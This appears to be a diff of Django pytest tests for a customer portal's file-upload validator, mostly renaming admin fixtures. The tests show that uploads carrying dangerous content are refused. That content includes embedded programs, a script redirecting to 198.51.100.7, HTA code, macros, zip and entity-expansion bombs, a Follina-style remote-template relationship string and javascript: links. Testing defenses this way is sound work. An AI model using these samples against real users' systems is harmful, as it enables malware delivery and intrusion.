@@ -147,8 +147,8 @@ def service(customer):
 
 
 @pytest.fixture
-def ticket(customer, admin_user, service):
-    return _open(customer, admin_user, service=service)
+def ticket(customer, portal_admin_user, service):
+    return _open(customer, portal_admin_user, service=service)
 
 
 def _reply(client, ticket, name: str, content: bytes):
@@ -180,14 +180,14 @@ def _download(client, ticket, attachment):
     ],
 )
 def test_a_file_is_stored_and_served_as_its_content_says(
-    admin_client, ticket, name, content, stored_type, served_as
+    portal_admin_client, ticket, name, content, stored_type, served_as
 ):
-    assert _reply(admin_client, ticket, name, content).status_code == 302
+    assert _reply(portal_admin_client, ticket, name, content).status_code == 302
 
     attachment = Attachment.objects.get()
     assert attachment.content_type == stored_type
     assert attachment.filename == served_as  # the page and the e-mails show this name too
-    response, body = _download(admin_client, ticket, attachment)
+    response, body = _download(portal_admin_client, ticket, attachment)
     assert response["Content-Disposition"] == f'attachment; filename="{served_as}"'
     assert response["Content-Type"] == stored_type
     assert body == content
@@ -237,9 +237,9 @@ def test_a_file_is_stored_and_served_as_its_content_says(
     ],
 )
 def test_markup_and_scripts_are_refused_though_they_are_text(
-    admin_client, ticket, name, content, says
+    portal_admin_client, ticket, name, content, says
 ):
-    response = _reply(admin_client, ticket, name, content)
+    response = _reply(portal_admin_client, ticket, name, content)
 
     assert response.status_code == 400
     page = response.content.decode()
@@ -249,22 +249,22 @@ def test_markup_and_scripts_are_refused_though_they_are_text(
     assert not Message.objects.filter(body="See the file").exists()
 
 
-def test_text_with_a_program_after_the_first_8_kb_is_refused(admin_client, ticket):
+def test_text_with_a_program_after_the_first_8_kb_is_refused(portal_admin_client, ticket):
     """The whole file is read, not a sample of its head."""
     content = LOG * 200 + EXE  # about 28 KB of log, then a Windows program
     assert len(LOG * 200) > 8192
 
-    response = _reply(admin_client, ticket, "router.log", content)
+    response = _reply(portal_admin_client, ticket, "router.log", content)
 
     assert response.status_code == 400
     assert "router.log is not a file type we accept." in response.content.decode()
 
 
-def test_a_script_deep_in_a_long_log_is_found(admin_client, ticket):
+def test_a_script_deep_in_a_long_log_is_found(portal_admin_client, ticket):
     content = LOG * 30_000 + b"<script>document.location='//198.51.100.7'</script>\n" + LOG
     assert len(content) > 2 * 1024 * 1024  # several of the check's 1 MB chunks
 
-    response = _reply(admin_client, ticket, "router.log", content)
+    response = _reply(portal_admin_client, ticket, "router.log", content)
 
     assert response.status_code == 400
     assert "contains HTML code" in response.content.decode()
@@ -297,22 +297,22 @@ def test_a_script_deep_in_a_long_log_is_found(admin_client, ticket):
         ),
     ],
 )
-def test_macros_and_embedded_programs_are_refused(admin_client, ticket, name, content, says):
-    response = _reply(admin_client, ticket, name, content)
+def test_macros_and_embedded_programs_are_refused(portal_admin_client, ticket, name, content, says):
+    response = _reply(portal_admin_client, ticket, name, content)
 
     assert response.status_code == 400
     assert says in response.content.decode()
     assert not Attachment.objects.exists()
 
 
-def test_a_zip_of_a_program_dressed_as_word_is_refused(admin_client, ticket):
+def test_a_zip_of_a_program_dressed_as_word_is_refused(portal_admin_client, ticket):
     """filetype calls any ZIP whose first member starts with word/ a Word document."""
     archive = _zip({"word/readme.txt": b"Open setup.exe", "setup.exe": EXE})
     import filetype
 
     assert filetype.guess(archive).extension == "docx"  # what the old check trusted
 
-    response = _reply(admin_client, ticket, "drivers.docx", archive)
+    response = _reply(portal_admin_client, ticket, "drivers.docx", archive)
 
     assert response.status_code == 400
     assert "drivers.docx contains macros or embedded programs (setup.exe)" in (
@@ -321,10 +321,10 @@ def test_a_zip_of_a_program_dressed_as_word_is_refused(admin_client, ticket):
     assert not Attachment.objects.exists()
 
 
-def test_a_zip_that_is_no_office_document_is_refused(admin_client, ticket):
+def test_a_zip_that_is_no_office_document_is_refused(portal_admin_client, ticket):
     archive = _zip({"word/document.xml": b"<w:document/>", "capture.pcap": b"\xd4\xc3\xb2\xa1"})
 
-    response = _reply(admin_client, ticket, "capturas.docx", archive)
+    response = _reply(portal_admin_client, ticket, "capturas.docx", archive)
 
     assert response.status_code == 400
     assert "capturas.docx is a ZIP archive, not a Word or Excel document." in (
@@ -333,14 +333,14 @@ def test_a_zip_that_is_no_office_document_is_refused(admin_client, ticket):
 
 
 def test_an_archive_past_the_caps_is_refused_without_expanding_it(
-    admin_client, ticket, monkeypatch
+    portal_admin_client, ticket, monkeypatch
 ):
     from core.lib import uploads
 
     monkeypatch.setattr(uploads, "OFFICE_MAX_EXPANDED_MB", 1)
     bomb = docx(extra={"word/media/filler.xml": b"\x00" * (2 * 1024 * 1024)})
     assert len(bomb) < 20_000  # 2 MB of zeros compress to a few KB
-    response = _reply(admin_client, ticket, "bomba.docx", bomb)
+    response = _reply(portal_admin_client, ticket, "bomba.docx", bomb)
     assert response.status_code == 400
     assert "bomba.docx has more than 2000 parts or expands to more than 1 MB" in (
         response.content.decode()
@@ -348,18 +348,18 @@ def test_an_archive_past_the_caps_is_refused_without_expanding_it(
 
     monkeypatch.setattr(uploads, "OFFICE_MAX_EXPANDED_MB", 250)
     many = docx(extra={f"word/media/part{n}.xml": b"<x/>" for n in range(2001)})
-    response = _reply(admin_client, ticket, "partes.docx", many)
+    response = _reply(portal_admin_client, ticket, "partes.docx", many)
     assert response.status_code == 400
     assert "partes.docx has more than 2000 parts" in response.content.decode()
 
 
-def test_a_damaged_office_file_is_refused(admin_client, ticket):
-    response = _reply(admin_client, ticket, "roto.docx", docx()[:200])
+def test_a_damaged_office_file_is_refused(portal_admin_client, ticket):
+    response = _reply(portal_admin_client, ticket, "roto.docx", docx()[:200])
     assert response.status_code == 400
     assert "roto.docx is a damaged or password-protected file" in response.content.decode()
 
 
-def test_opening_a_ticket_checks_its_files_the_same_way(admin_client, service):
+def test_opening_a_ticket_checks_its_files_the_same_way(portal_admin_client, service):
     form = {
         "services": [service.service_id],
         "impact": "down",
@@ -370,14 +370,14 @@ def test_opening_a_ticket_checks_its_files_the_same_way(admin_client, service):
         "site_contact_phone": "+54 11 5555 0101",
         "access_hours": "24x7",
     }
-    refused = admin_client.post(
+    refused = portal_admin_client.post(
         reverse("tickets:create"),
         {**form, "attachments": [SimpleUploadedFile("Speedtest-results.txt", HTA)]},
     )
     assert refused.status_code == 400
     assert "Speedtest-results.txt contains HTA code" in refused.content.decode()
 
-    accepted = admin_client.post(
+    accepted = portal_admin_client.post(
         reverse("tickets:create"), {**form, "attachments": [SimpleUploadedFile("a.exe", png())]}
     )
     assert accepted.status_code == 302
@@ -387,7 +387,7 @@ def test_opening_a_ticket_checks_its_files_the_same_way(admin_client, service):
 # --- downloads: staff admin, files stored before this check, billing -----------------------------
 
 
-def test_staff_download_a_file_stored_before_the_check_as_text(client, ticket, admin_user):
+def test_staff_download_a_file_stored_before_the_check_as_text(client, ticket, portal_admin_user):
     """Rows written by the old check keep their uploaded name; the download still takes its
     extension from the stored type."""
     staff = UserFactory(email="tsc2@provider.test", is_staff=True)
@@ -399,7 +399,7 @@ def test_staff_download_a_file_stored_before_the_check_as_text(client, ticket, a
         filename="Speedtest-results.hta",
         content_type="text/plain",
         size=16,
-        uploaded_by=admin_user,
+        uploaded_by=portal_admin_user,
     )
 
     response = client.get(reverse("admin:tickets_ticket_attachment", args=[old.reference]))
@@ -410,7 +410,7 @@ def test_staff_download_a_file_stored_before_the_check_as_text(client, ticket, a
     response.close()
 
 
-def test_billing_request_files_are_checked_and_named_the_same_way(admin_client, customer):
+def test_billing_request_files_are_checked_and_named_the_same_way(portal_admin_client, customer):
     invoice = invoice_with_lines(customer, number="FA-0001-00000077")
     form = {
         "kind": "question",
@@ -419,14 +419,14 @@ def test_billing_request_files_are_checked_and_named_the_same_way(admin_client, 
         "invoice": invoice.number,
     }
 
-    refused = admin_client.post(
+    refused = portal_admin_client.post(
         reverse("billing:request_create"),
         {**form, "attachments": [SimpleUploadedFile("detalle.txt", HTA)]},
     )
     assert refused.status_code == 400
     assert "detalle.txt contains HTA code" in refused.content.decode()
 
-    accepted = admin_client.post(
+    accepted = portal_admin_client.post(
         reverse("billing:request_create"),
         {**form, "attachments": [SimpleUploadedFile("detalle.exe", png())]},
     )
@@ -434,20 +434,20 @@ def test_billing_request_files_are_checked_and_named_the_same_way(admin_client, 
     stored = BillingAttachment.objects.get()
     assert (stored.filename, stored.content_type) == ("detalle.png", "image/png")
     url = reverse("billing:request_attachment", args=[stored.request.number, stored.reference])
-    response = admin_client.get(url)
+    response = portal_admin_client.get(url)
     assert response["Content-Disposition"] == 'attachment; filename="detalle.png"'
     response.close()
 
 
 def test_a_po_support_is_named_for_its_content_in_the_portal_and_the_email(
-    admin_client, customer, mailoutbox, django_capture_on_commit_callbacks
+    portal_admin_client, customer, mailoutbox, django_capture_on_commit_callbacks
 ):
     PoAddress.objects.all().delete()
     PoAddress.objects.create(countries=[customer.country], email="po@provider.test")
     invoice = invoice_with_lines(customer, number="FA-0001-00000078")
     form = {"kind": "po", "reference": "4500012345", "invoices": [invoice.number]}
 
-    refused = admin_client.post(
+    refused = portal_admin_client.post(
         reverse("billing:po_request_create"),
         {**form, "support": SimpleUploadedFile("orden.pdf", b"%PDF-1.4\n<html><script>x</script>")},
     )
@@ -455,14 +455,14 @@ def test_a_po_support_is_named_for_its_content_in_the_portal_and_the_email(
     assert not PurchaseOrderRequest.objects.exists()
 
     with django_capture_on_commit_callbacks(execute=True):
-        response = admin_client.post(
+        response = portal_admin_client.post(
             reverse("billing:po_request_create"),
             {**form, "support": SimpleUploadedFile("orden.exe", png())},
         )
     assert response.status_code == 302
     po = PurchaseOrderRequest.objects.get()
     assert (po.support_name, po.support_type) == ("orden.png", "image/png")
-    download = admin_client.get(reverse("billing:po_request_support", args=[po.number]))
+    download = portal_admin_client.get(reverse("billing:po_request_support", args=[po.number]))
     assert download["Content-Disposition"] == 'attachment; filename="orden.png"'
     download.close()
     (sent,) = [m for m in mailoutbox if "po@provider.test" in m.to[0]]
@@ -609,9 +609,9 @@ def _refused(client, ticket, name: str, content: bytes) -> str:
     return html.unescape(response.content.decode())
 
 
-def test_office_files_laid_out_as_office_writes_them_are_accepted(admin_client, ticket):
-    assert _reply(admin_client, ticket, "traceroute.docx", word()).status_code == 302
-    assert _reply(admin_client, ticket, "lg.xlsx", excel()).status_code == 302
+def test_office_files_laid_out_as_office_writes_them_are_accepted(portal_admin_client, ticket):
+    assert _reply(portal_admin_client, ticket, "traceroute.docx", word()).status_code == 302
+    assert _reply(portal_admin_client, ticket, "lg.xlsx", excel()).status_code == 302
     assert sorted(Attachment.objects.values_list("content_type", flat=True)) == sorted([DOCX, XLSX])
 
 
@@ -687,9 +687,9 @@ def _word_types(*overrides: tuple[str, str]) -> bytes:
     ],
 )
 def test_activex_and_macros_without_a_bin_part_are_refused(
-    admin_client, ticket, name, content, says
+    portal_admin_client, ticket, name, content, says
 ):
-    page = _refused(admin_client, ticket, name, content)
+    page = _refused(portal_admin_client, ticket, name, content)
     assert f"{name} {says}" in page, page
 
 
@@ -816,10 +816,10 @@ _FOLLINA = "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html"
     ],
 )
 def test_relationships_that_load_something_from_outside_are_refused(
-    admin_client, ticket, name, extra, says
+    portal_admin_client, ticket, name, extra, says
 ):
     content = excel(extra) if name.endswith(".xlsx") else word(extra)
-    page = _refused(admin_client, ticket, name, content)
+    page = _refused(portal_admin_client, ticket, name, content)
     assert f"{name} {says}" in page, page
 
 
@@ -831,13 +831,13 @@ def test_relationships_that_load_something_from_outside_are_refused(
         "javascript:alert(1)",
     ],
 )
-def test_a_link_that_starts_a_program_is_refused(admin_client, ticket, target):
+def test_a_link_that_starts_a_program_is_refused(portal_admin_client, ticket, target):
     """External hyperlinks stay allowed (the accepted document has web, mail and file links);
     a link to one of Windows' program handlers starts that program on one click."""
     extra = {
         "word/_rels/document.xml.rels": relationships((f"{_RELS}/hyperlink", target, "External"))
     }
-    page = _refused(admin_client, ticket, "enlace.docx", word(extra))
+    page = _refused(portal_admin_client, ticket, "enlace.docx", word(extra))
     assert "enlace.docx contains a link that starts a program on the reader's computer" in page
 
 
@@ -901,14 +901,14 @@ def test_a_link_that_starts_a_program_is_refused(admin_client, ticket, target):
     ],
 )
 def test_a_program_or_archive_hidden_among_the_parts_is_refused(
-    admin_client, ticket, name, extra, says
+    portal_admin_client, ticket, name, extra, says
 ):
     content = excel(extra) if name.endswith(".xlsx") else word(extra)
-    page = _refused(admin_client, ticket, name, content)
+    page = _refused(portal_admin_client, ticket, name, content)
     assert f"{name} {says}" in page, page
 
 
-def test_a_part_compressed_in_a_way_office_never_uses_is_refused(admin_client, ticket):
+def test_a_part_compressed_in_a_way_office_never_uses_is_refused(portal_admin_client, ticket):
     """Office writes parts stored or deflated. bzip2 and LZMA decompress without a bound on what
     a few KB expand to, so such an archive is not opened further."""
     buffer = io.BytesIO()
@@ -917,11 +917,13 @@ def test_a_part_compressed_in_a_way_office_never_uses_is_refused(admin_client, t
             method = zipfile.ZIP_BZIP2 if part == "word/document.xml" else zipfile.ZIP_DEFLATED
             archive.writestr(part, data, compress_type=method)
 
-    page = _refused(admin_client, ticket, "bz.docx", buffer.getvalue())
+    page = _refused(portal_admin_client, ticket, "bz.docx", buffer.getvalue())
     assert "bz.docx is a damaged or password-protected file" in page
 
 
-def test_a_relationship_part_with_a_dtd_is_refused_before_its_entities_expand(admin_client, ticket):
+def test_a_relationship_part_with_a_dtd_is_refused_before_its_entities_expand(
+    portal_admin_client, ticket
+):
     """The package format forbids DTDs; with one, an entity could spell TargetMode="External",
     or expand a billion times. Refused as damaged, at once."""
     laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
@@ -931,12 +933,14 @@ def test_a_relationship_part_with_a_dtd_is_refused_before_its_entities_expand(ad
         'Target="http://198.51.100.7/t.dotm" TargetMode="&ext;"/><x>&l9;</x></Relationships>'
     ).encode()
 
-    page = _refused(admin_client, ticket, "dtd.docx", word({"word/_rels/settings.xml.rels": rels}))
+    page = _refused(
+        portal_admin_client, ticket, "dtd.docx", word({"word/_rels/settings.xml.rels": rels})
+    )
     assert "dtd.docx is a damaged or password-protected file" in page
 
 
 def test_relationships_past_their_cap_are_refused_without_reading_on(
-    admin_client, ticket, monkeypatch
+    portal_admin_client, ticket, monkeypatch
 ):
     from core.lib import uploads
 
@@ -948,7 +952,10 @@ def test_relationships_past_their_cap_are_refused_without_reading_on(
     assert len(rels) > 1024 * 1024
 
     page = _refused(
-        admin_client, ticket, "enlaces.xlsx", excel({"xl/worksheets/_rels/sheet1.xml.rels": rels})
+        portal_admin_client,
+        ticket,
+        "enlaces.xlsx",
+        excel({"xl/worksheets/_rels/sheet1.xml.rels": rels}),
     )
     assert "enlaces.xlsx has more relationships between its parts than we can check" in page
 
@@ -990,27 +997,27 @@ def test_checking_a_large_office_file_stays_fast():
     ],
 )
 def test_the_forms_say_that_text_files_come_back_as_txt(
-    admin_client, admin_user, ticket, language, says
+    portal_admin_client, portal_admin_user, ticket, language, says
 ):
-    admin_user.language = language
-    admin_user.save()
+    portal_admin_user.language = language
+    portal_admin_user.save()
 
     for url in (
         reverse("tickets:create"),
         reverse("tickets:detail", args=[ticket.number]),
         reverse("billing:request_create"),
     ):
-        page = html.unescape(admin_client.get(url).content.decode())
+        page = html.unescape(portal_admin_client.get(url).content.decode())
         assert says in page, url
 
 
-def test_a_csv_is_stored_and_served_as_txt_as_the_form_says(admin_client, ticket):
+def test_a_csv_is_stored_and_served_as_txt_as_the_form_says(portal_admin_client, ticket):
     csv = "fecha;enlace;latencia_ms\n2026-12-07 03:00;AR-BUE-IPVPN-20001;38,4 ±0,2\n".encode()
 
-    assert _reply(admin_client, ticket, "latencias.csv", csv).status_code == 302
+    assert _reply(portal_admin_client, ticket, "latencias.csv", csv).status_code == 302
 
     attachment = Attachment.objects.get()
     assert (attachment.filename, attachment.content_type) == ("latencias.txt", "text/plain")
-    response, body = _download(admin_client, ticket, attachment)
+    response, body = _download(portal_admin_client, ticket, attachment)
     assert response["Content-Disposition"] == 'attachment; filename="latencias.txt"'
     assert body == csv
